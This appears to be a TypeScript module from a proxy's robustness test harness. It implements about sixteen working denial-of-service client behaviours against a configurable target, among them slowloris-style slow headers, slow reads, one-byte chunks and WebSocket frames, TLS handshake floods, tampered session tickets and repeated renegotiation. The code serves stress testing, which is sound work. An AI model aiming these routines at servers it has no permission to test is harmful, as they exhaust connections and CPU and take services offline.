/** What bad clients do. */
import type { Socket } from "node:net";
import type { TLSSocket } from "node:tls";
import { type Crowd, type Target, crowd, openPlain, openTls } from "./connections.ts";

/** Until it is stopped, or until it is done. */
export interface Attack extends Crowd {
  /** Of attacks that end by themselves. */
  readonly done?: Promise<void>;
}

const head = (line: string, ...fields: string[]): string =>
  `${[`${line} HTTP/1.1`, "Host: abuse.test", ...fields].join("\r\n")}\r\n`;

const writeOnAndOn = (socket: Socket, bytes: string | Buffer): void => {
  const more = (): void => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on("drain", more);
  more();
};

const everySecond = (one: Crowd, task: () => void): Attack => {
  const timer = setInterval(task, 1_000);
  return {
    ready: one.ready,
    stop: () => {
      clearInterval(timer);
      one.stop();
    },
  };
};

/** A crowd of which each member does `task` once a second. */
const slowCrowd = (
  target: Target,
  count: number,
  begin: (socket: Socket) => void,
  task: (socket: Socket) => void,
): Attack => {
  const sockets = new Set<Socket>();
  const members = crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      sockets.add(socket);
      socket.once("close", () => sockets.delete(socket));
      begin(socket);
    },
  );
  return everySecond(members, () => {
    for (const socket of sockets) task(socket);
  });
};

/** Uploads in chunks of one byte, as fast as they are taken. */
const tinyChunks = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      socket.write(`${head("POST /bad/", "Transfer-Encoding: chunked")}\r\n`);
      writeOnAndOn(socket, "1\r\nx\r\n".repeat(4096));
    },
  );

/** Reads a large response by a byte a second. */
const slowReaders = (target: Target, count: number): Attack =>
  slowCrowd(
    target,
    count,
    (socket) => {
      socket.pause();
      socket.write(`${head("GET /bad/large")}\r\n`);
    },
    (socket) => void socket.read(1),
  );

/** Sends an upload by a byte a second. */
const slowWriters = (target: Target, count: number): Attack =>
  slowCrowd(
    target,
    count,
    (socket) => void socket.write(`${head("POST /bad/", "Content-Length: 100000")}\r\n`),
    (socket) => void socket.write("x"),
  );

/** Sends a head by a byte a second. */
const slowHeaders = (target: Target, count: number): Attack =>
  slowCrowd(
    target,
    count,
    (socket) => void socket.write("GET / HTTP/1.1\r\nX-"),
    (socket) => void socket.write("a"),
  );

const SMALL_REQUEST = `${head("GET /")}\r\n`;

/** One request, and then nothing. */
const idle = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      socket.write(SMALL_REQUEST);
      socket.resume();
    },
  );

const idleTls = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openTls(target),
    "secureConnect",
    (socket) => {
      socket.write(SMALL_REQUEST);
      socket.resume();
    },
  );

const SWITCH = `${head(
  "GET /bad/tunnel",
  "Connection: Upgrade",
  "Upgrade: websocket",
  "Sec-WebSocket-Version: 13",
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)}\r\n`;

/** WebSockets whose client never reads what the server keeps sending. */
const unreadTunnels = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      socket.pause();
      socket.write(SWITCH);
    },
  );

/** WebSocket messages of one byte in frames of their own, as fast as they are taken. */
const tinyFrames = (target: Target, count: number): Attack => {
  const frame = Buffer.from([0x82, 0x81, 1, 2, 3, 4, 0x40]);
  const frames = Buffer.concat(Array.from({ length: 4096 }, () => frame));
  return crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      socket.write(SWITCH.replace("tunnel", "sink"));
      socket.once("data", () => writeOnAndOn(socket, frames));
    },
  );
};

/** One frame after the other, each of their bytes a packet of its own. */
const bytewiseFrames = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      const frame = [0x82, 0x81, 1, 2, 3, 4, 0x40];
      let at = 0;
      const more = (): void => {
        if (socket.destroyed) return;
        socket.write(Uint8Array.of(frame[at++ % frame.length] ?? 0), () => setImmediate(more));
      };
      socket.write(SWITCH.replace("tunnel", "sink"));
      socket.once("data", more);
    },
  );

/** `workers` at once do `task` over and over, until they are stopped or have done it `times` times. */
const repeated = (workers: number, times: number, task: () => Promise<void>): Attack => {
  let left = times;
  const work = async (): Promise<void> => {
    while (left-- > 0) await task();
  };
  return {
    ready: Promise.resolve(),
    done: Promise.all(Array.from({ length: workers }, work)).then(() => {}),
    stop: () => {
      left = 0;
    },
  };
};

const GIVEN_UP_MS = 5_000;

/** Runs `use` once the connection is up; resolves when it is closed, whoever closed it. */
const visit = <T extends Socket>(
  socket: T,
  readyEvent: "connect" | "secureConnect",
  use: (socket: T) => void,
): Promise<void> =>
  new Promise((resolve) => {
    socket.once("close", () => resolve());
    socket.once(readyEvent, () => use(socket));
    socket.setTimeout(GIVEN_UP_MS, () => socket.destroy());
  });

/** TLS connections that leave as soon as they are up. */
const handshakes = (target: Target, count: number): Attack =>
  repeated(count, Infinity, () => visit(openTls(target), "secureConnect", (socket) => socket.destroy()));

/** The same with the ticket of an earlier session, every second one of which was tampered with. */
const tickets = (target: Target, count: number): Attack => {
  let session: Buffer | undefined;
  let turn = 0;
  const offered = (): { session: Buffer } | undefined => {
    if (session === undefined || turn++ % 2 === 0) return session && { session };
    const bad = Buffer.from(session);
    const at = bad.length - 60;
    bad[at] = (bad[at] ?? 0) ^ 0xff;
    return { session: bad };
  };
  const use = (socket: TLSSocket): void => {
    socket.once("session", (given: Buffer) => (session ??= given));
    socket.write(SMALL_REQUEST);
    socket.once("data", () => socket.destroy());
  };
  return repeated(count, Infinity, () =>
    visit(openTls(target, { maxVersion: "TLSv1.2", ...offered() }), "secureConnect", use),
  );
};

/** Begins a handshake and leaves it at that. */
const stuckHandshakes = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain({ ...target, port: target.tlsPort }),
    "connect",
    (socket) => {
      socket.write(Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]));
    },
  );

/** Asks for a new handshake on a connection of TLS 1.2, over and over. */
const renegotiation = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openTls(target, { maxVersion: "TLSv1.2" }),
    "secureConnect",
    (socket) => {
      const secure = socket as TLSSocket;
      const again = (): void => {
        if (!secure.destroyed)
          secure.renegotiate({}, (error) => (error === null ? again() : secure.destroy()));
      };
      secure.write(SMALL_REQUEST);
      secure.once("data", again);
    },
  );

const AT_ONCE = 32;

/** Opens and closes so many connections, and is done. */
const openAndClose = (target: Target, count: number): Attack =>
  repeated(AT_ONCE, count, () => visit(openPlain(target), "connect", (socket) => socket.destroy()));

/** Leaves so many times in the middle of a response or an upload, and is done. */
const abortedTransfers = (target: Target, count: number): Attack => {
  let turn = 0;
  return repeated(AT_ONCE, count, () =>
    visit(openPlain(target), "connect", (socket) => {
      if (turn++ % 2 === 0) {
        socket.write(`${head("GET /bad/large")}\r\n`);
        socket.once("data", () => socket.resetAndDestroy());
      } else {
        socket.write(`${head("POST /bad/", "Content-Length: 100000")}\r\nhalf of it`);
        setTimeout(() => socket.resetAndDestroy(), 10);
      }
    }),
  );
};

/** Keeps the proxy busy: each client asks again as soon as it is answered. */
const fullLoad = (target: Target, count: number): Attack =>
  crowd(
    count,
    () => openPlain(target),
    "connect",
    (socket) => {
      let left = 0;
      socket.on("data", (bytes: Buffer) => {
        if (left > 0) left -= bytes.length;
        else {
          const end = bytes.indexOf("\r\n\r\n");
          const length = /content-length: *(\d+)/i.exec(bytes.toString("latin1", 0, end));
          left = end + 4 + Number(length?.[1] ?? 0) - bytes.length;
        }
        if (left <= 0) socket.write(SMALL_REQUEST);
      });
      socket.write(SMALL_REQUEST);
    },
  );

export type AttackName =
  | "none"
  | "tinyChunks"
  | "slowReaders"
  | "slowWriters"
  | "slowHeaders"
  | "idle"
  | "idleTls"
  | "unreadTunnels"
  | "tinyFrames"
  | "bytewiseFrames"
  | "handshakes"
  | "tickets"
  | "stuckHandshakes"
  | "renegotiation"
  | "openAndClose"
  | "abortedTransfers"
  | "fullLoad";

export const ATTACKS: Readonly<Record<AttackName, (target: Target, count: number) => Attack>> = {
  none: () => ({ ready: Promise.resolve(), stop: () => {} }),
  tinyChunks,
  slowReaders,
  slowWriters,
  slowHeaders,
  idle,
  idleTls,
  unreadTunnels,
  tinyFrames,
  bytewiseFrames,
  handshakes,
  tickets,
  stuckHandshakes,
  renegotiation,
  openAndClose,
  abortedTransfers,
  fullLoad,
};
